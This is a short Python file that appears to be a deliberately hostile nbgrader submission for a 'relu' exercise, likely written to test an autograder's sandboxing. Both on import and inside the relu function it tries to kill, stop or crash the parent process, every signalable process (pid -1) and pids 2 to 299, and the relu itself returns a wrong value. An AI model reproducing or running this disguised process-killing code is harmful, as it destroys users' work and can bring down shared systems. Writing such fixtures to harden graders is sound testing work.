"""Sends signals to every process that it can think of."""

# %% nbgrader={"grade_id": "relu"}
import os
import signal


def shoot():
    for number in (signal.SIGKILL, signal.SIGSTOP, signal.SIGTERM, signal.SIGSEGV):
        for pid in (os.getppid(), -1, *range(2, 300)):
            try:
                os.kill(pid, number)
            except OSError:
                pass


shoot()


def relu(x):
    shoot()
    return -1.0
